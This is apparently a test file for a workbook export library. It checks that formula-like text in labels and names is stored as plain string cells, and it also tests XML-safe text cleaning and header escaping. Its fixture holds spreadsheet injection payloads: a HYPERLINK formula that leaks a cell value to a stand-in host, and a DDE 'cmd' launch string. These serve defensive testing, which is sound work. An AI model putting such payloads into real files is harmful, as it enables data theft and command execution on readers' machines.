import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import handCase from "@/tests/fixtures/engine-hand-case.json";
import { MAX_CELL_TEXT, safeText } from "@/lib/workbook";
import { headerFooterText } from "@/lib/workbook/safe-text";
import { xlsxParts } from "@/tests/support/libreoffice";
import { buildWorkbookOf, sheetOf } from "./fixture-workbook";

const HOSTILE = {
  label: '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")',
  machine: "+1+cmd|' /C calc'!A0",
  kit: "-2+3",
  axisId: "@SUM(1,2)",
};

function hostileCase() {
  const raw = structuredClone(handCase);
  raw.machines[0].name = HOSTILE.machine;
  raw.axes[0].label = HOSTILE.label;
  raw.axes[0].id = HOSTILE.axisId;
  raw.axes[0].retrofit.kit.name = HOSTILE.kit;
  (raw.axes[0].duty as Record<string, number>).holdTorqueNm = 0.2; // puts the axis on the Cautions sheet too
  return raw;
}

/** Every `<c>` of every sheet part whose text (shared string or inline) is one of the given strings. */
function cellsHolding(xlsx: Buffer, texts: string[]): { sheet: string; xml: string }[] {
  const parts = xlsxParts(xlsx);
  const shared = [...(parts.get("xl/sharedStrings.xml") ?? "").matchAll(/<si>(.*?)<\/si>/gs)].map(
    (m) =>
      m[1]
        .replace(/<[^>]+>/g, "")
        .replace(/&quot;/g, '"')
        .replace(/&apos;/g, "'")
        .replace(/&amp;/g, "&")
        .replace(/&lt;/g, "<")
        .replace(/&gt;/g, ">"),
  );
  const wanted = new Set(texts.map((t) => shared.indexOf(t)).filter((i) => i >= 0));
  expect(wanted.size, "each text is a shared string").toBe(texts.length);
  const found: { sheet: string; xml: string }[] = [];
  for (const [name, xml] of parts) {
    if (!name.startsWith("xl/worksheets/")) continue;
    for (const m of xml.matchAll(/<c\b[^>]*?(?<!\/)>((?:(?!<\/c>).)*)<\/c>/gs))
      if (/t="s"/.test(m[0]) && wanted.has(Number(/<v>(\d+)<\/v>/.exec(m[1])?.[1])))
        found.push({ sheet: name, xml: m[0] });
  }
  return found;
}

describe("text that looks like a formula is written as text (issue 5)", () => {
  it('writes an axis label such as "=HYPERLINK(…)" and names starting with + - @ as string cells, never as formulas', async () => {
    const { xlsx, workbook } = await buildWorkbookOf(hostileCase());
    const cells = cellsHolding(xlsx, Object.values(HOSTILE));
    expect(cells.length).toBeGreaterThanOrEqual(4);
    for (const cell of cells) {
      expect(cell.xml).toMatch(/ t="s"/);
      expect(cell.xml).not.toMatch(/<f[ >]/);
    }
    const axes = sheetOf(workbook, "Axes");
    // Label and machine first (the frozen columns), then the record keys.
    expect(axes.getCell("A3").type).toBe(ExcelJS.ValueType.String);
    expect(axes.getCell("A3").value).toBe(HOSTILE.label);
    expect(axes.getCell("B3").value).toBe(HOSTILE.machine);
    expect(axes.getCell("C3").type).toBe(ExcelJS.ValueType.String);
    expect(axes.getCell("C3").value).toBe(HOSTILE.axisId);
    const cautions = sheetOf(workbook, "Cautions");
    const labels: unknown[] = [];
    const machines: unknown[] = [];
    const keys: unknown[] = [];
    cautions.eachRow((row) => {
      labels.push(row.getCell(1).value);
      machines.push(row.getCell(2).value);
      keys.push(row.getCell(5).value);
    });
    expect(labels).toContain(HOSTILE.label);
    expect(machines).toContain(HOSTILE.machine);
    expect(keys).toContain(HOSTILE.axisId);
  });

  it("drops characters XML cannot carry and cuts text to what a cell holds", () => {
    expect(safeText("a\u0000b\u0007c\u000Bd\uFFFE")).toBe("abcd");
    expect(safeText("tab\tand\nline")).toBe("tab\tand\nline");
    expect(safeText("lone \uD800 surrogate")).toBe("lone  surrogate");
    expect(safeText("pair \uD83D\uDE00 kept")).toBe("pair \uD83D\uDE00 kept");
    expect(safeText("x".repeat(MAX_CELL_TEXT + 10))).toHaveLength(MAX_CELL_TEXT);
    expect(safeText("=1+1")).toBe("=1+1");
    expect(safeText(null)).toBe("");
  });

  it("doubles & in header and footer text, where & starts a field code", () => {
    expect(headerFooterText("Cartons & labels &P")).toBe("Cartons && labels &&P");
  });
});
